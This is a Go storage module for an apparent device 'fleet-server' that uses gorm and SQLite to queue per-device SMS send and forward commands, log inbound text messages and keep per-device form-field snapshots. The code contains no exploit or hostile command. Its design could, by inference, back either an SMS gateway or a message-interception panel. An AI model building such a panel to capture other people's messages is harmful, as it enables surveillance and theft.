package storage

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"time"

	"github.com/google/uuid"
	"gorm.io/driver/sqlite"
	"gorm.io/gorm"
	"gorm.io/gorm/clause"
	"gorm.io/gorm/logger"

	"github.com/fleetpanel/fleet-server/internal/models"
)

// DefaultSQLitePath is used when no path is configured.
const DefaultSQLitePath = "data/fleet.db"

type commandRow struct {
	Seq       uint      `gorm:"primaryKey;autoIncrement"`
	CommandID uuid.UUID `gorm:"type:text;not null"`
	DeviceID  string    `gorm:"index:idx_commands_device;not null"`
	Type      string    `gorm:"not null"`
	SIM       int       `gorm:"not null"`
	Number    string
	Message   string
	Action    string
	QueuedAt  time.Time
}

func (commandRow) TableName() string { return "device_commands" }

func (r *commandRow) toModel() *models.Command {
	return &models.Command{
		ID:       r.CommandID,
		Type:     models.CommandType(r.Type),
		SIM:      models.SIMSlot(r.SIM),
		Number:   r.Number,
		Message:  r.Message,
		Action:   models.ForwardAction(r.Action),
		QueuedAt: r.QueuedAt,
	}
}

type smsRow struct {
	Seq      uint      `gorm:"primaryKey;autoIncrement"`
	EntryID  uuid.UUID `gorm:"type:text;not null"`
	DeviceID string    `gorm:"index:idx_sms_device;not null"`
	Sender   string
	Body     string
	SIM      string
	SentAt   time.Time
}

func (smsRow) TableName() string { return "sms_messages" }

func (r *smsRow) toModel() *models.SMSEntry {
	return &models.SMSEntry{
		ID:        r.EntryID,
		From:      r.Sender,
		Body:      r.Body,
		SIM:       r.SIM,
		Timestamp: models.Millis(r.SentAt),
	}
}

type formRow struct {
	DeviceID  string           `gorm:"primaryKey"`
	Fields    models.Variables `gorm:"type:text"`
	UpdatedAt time.Time
}

func (formRow) TableName() string { return "form_snapshots" }

// SQLiteStore implements Store on an embedded SQLite file through gorm.
type SQLiteStore struct {
	DB *gorm.DB
}

// NewSQLiteStore opens (creating if needed) the database at path and
// migrates the schema.
func NewSQLiteStore(path string) (*SQLiteStore, error) {
	if path == "" {
		path = DefaultSQLitePath
	}
	if path != ":memory:" {
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			return nil, fmt.Errorf("create data dir: %w", err)
		}
	}

	dsn := path + "?_busy_timeout=5000&_journal_mode=WAL"
	db, err := gorm.Open(sqlite.Open(dsn), &gorm.Config{
		Logger: logger.Default.LogMode(logger.Silent),
	})
	if err != nil {
		return nil, fmt.Errorf("open sqlite: %w", err)
	}

	sqlDB, err := db.DB()
	if err != nil {
		return nil, err
	}
	// SQLite allows a single writer; one connection keeps transactions
	// from tripping over SQLITE_BUSY.
	sqlDB.SetMaxOpenConns(1)

	if err := db.AutoMigrate(&commandRow{}, &smsRow{}, &formRow{}); err != nil {
		sqlDB.Close()
		return nil, fmt.Errorf("migrate: %w", err)
	}

	return &SQLiteStore{DB: db}, nil
}

// ========== Command queue ==========

// AppendCommand queues a command for a device
func (s *SQLiteStore) AppendCommand(ctx context.Context, deviceID string, cmd *models.Command) error {
	if cmd == nil {
		return ErrInvalidData
	}

	row := &commandRow{
		CommandID: cmd.ID,
		DeviceID:  deviceID,
		Type:      string(cmd.Type),
		SIM:       int(cmd.SIM),
		Number:    cmd.Number,
		Message:   cmd.Message,
		Action:    string(cmd.Action),
		QueuedAt:  cmd.QueuedAt,
	}
	return s.DB.WithContext(ctx).Create(row).Error
}

// TakeCommands reads and deletes the pending commands in one transaction
func (s *SQLiteStore) TakeCommands(ctx context.Context, deviceID string) ([]*models.Command, error) {
	var rows []commandRow

	err := s.DB.WithContext(ctx).Transaction(func(tx *gorm.DB) error {
		if err := tx.Where("device_id = ?", deviceID).Order("seq").Find(&rows).Error; err != nil {
			return err
		}
		if len(rows) == 0 {
			return nil
		}
		last := rows[len(rows)-1].Seq
		return tx.Where("device_id = ? AND seq <= ?", deviceID, last).Delete(&commandRow{}).Error
	})
	if err != nil {
		return nil, err
	}

	cmds := make([]*models.Command, len(rows))
	for i := range rows {
		cmds[i] = rows[i].toModel()
	}
	return cmds, nil
}

// CountCommands counts pending commands for a device
func (s *SQLiteStore) CountCommands(ctx context.Context, deviceID string) (int, error) {
	var count int64
	err := s.DB.WithContext(ctx).Model(&commandRow{}).Where("device_id = ?", deviceID).Count(&count).Error
	return int(count), err
}

// ========== SMS log ==========

// PrependSMS stores an inbound message and trims the log to limit entries
func (s *SQLiteStore) PrependSMS(ctx context.Context, deviceID string, entry *models.SMSEntry, limit int) error {
	if entry == nil {
		return ErrInvalidData
	}

	row := &smsRow{
		EntryID:  entry.ID,
		DeviceID: deviceID,
		Sender:   entry.From,
		Body:     entry.Body,
		SIM:      entry.SIM,
		SentAt:   entry.Timestamp.Time(),
	}

	return s.DB.WithContext(ctx).Transaction(func(tx *gorm.DB) error {
		if err := tx.Create(row).Error; err != nil {
			return err
		}
		if limit <= 0 {
			return nil
		}

		keep := tx.Model(&smsRow{}).Select("seq").
			Where("device_id = ?", deviceID).Order("seq DESC").Limit(limit)
		return tx.Where("device_id = ? AND seq NOT IN (?)", deviceID, keep).Delete(&smsRow{}).Error
	})
}

// ListSMS lists the newest messages for a device
func (s *SQLiteStore) ListSMS(ctx context.Context, deviceID string, limit int) ([]*models.SMSEntry, int64, error) {
	db := s.DB.WithContext(ctx)

	var total int64
	if err := db.Model(&smsRow{}).Where("device_id = ?", deviceID).Count(&total).Error; err != nil {
		return nil, 0, err
	}

	q := db.Where("device_id = ?", deviceID).Order("seq DESC")
	if limit > 0 {
		q = q.Limit(limit)
	}

	var rows []smsRow
	if err := q.Find(&rows).Error; err != nil {
		return nil, 0, err
	}

	entries := make([]*models.SMSEntry, len(rows))
	for i := range rows {
		entries[i] = rows[i].toModel()
	}
	return entries, total, nil
}

// PopLatestSMS deletes and returns the newest message for a device
func (s *SQLiteStore) PopLatestSMS(ctx context.Context, deviceID string) (*models.SMSEntry, error) {
	var row smsRow

	err := s.DB.WithContext(ctx).Transaction(func(tx *gorm.DB) error {
		if err := tx.Where("device_id = ?", deviceID).Order("seq DESC").First(&row).Error; err != nil {
			return err
		}
		return tx.Delete(&smsRow{}, row.Seq).Error
	})
	if errors.Is(err, gorm.ErrRecordNotFound) {
		return nil, ErrNotFound
	}
	if err != nil {
		return nil, err
	}
	return row.toModel(), nil
}

// ========== Form snapshots ==========

// SaveFormSnapshot overwrites the stored form for a device
func (s *SQLiteStore) SaveFormSnapshot(ctx context.Context, deviceID string, fields models.Variables) error {
	if fields == nil {
		fields = models.Variables{}
	}

	row := &formRow{DeviceID: deviceID, Fields: fields, UpdatedAt: time.Now()}
	return s.DB.WithContext(ctx).Clauses(clause.OnConflict{
		Columns:   []clause.Column{{Name: "device_id"}},
		DoUpdates: clause.AssignmentColumns([]string{"fields", "updated_at"}),
	}).Create(row).Error
}

// GetFormSnapshot gets the stored form for a device
func (s *SQLiteStore) GetFormSnapshot(ctx context.Context, deviceID string) (models.Variables, error) {
	var row formRow
	err := s.DB.WithContext(ctx).Where("device_id = ?", deviceID).First(&row).Error
	if errors.Is(err, gorm.ErrRecordNotFound) {
		return nil, ErrNotFound
	}
	if err != nil {
		return nil, err
	}
	return row.Fields, nil
}

// Close closes the underlying connection pool
func (s *SQLiteStore) Close() error {
	sqlDB, err := s.DB.DB()
	if err != nil {
		return err
	}
	return sqlDB.Close()
}
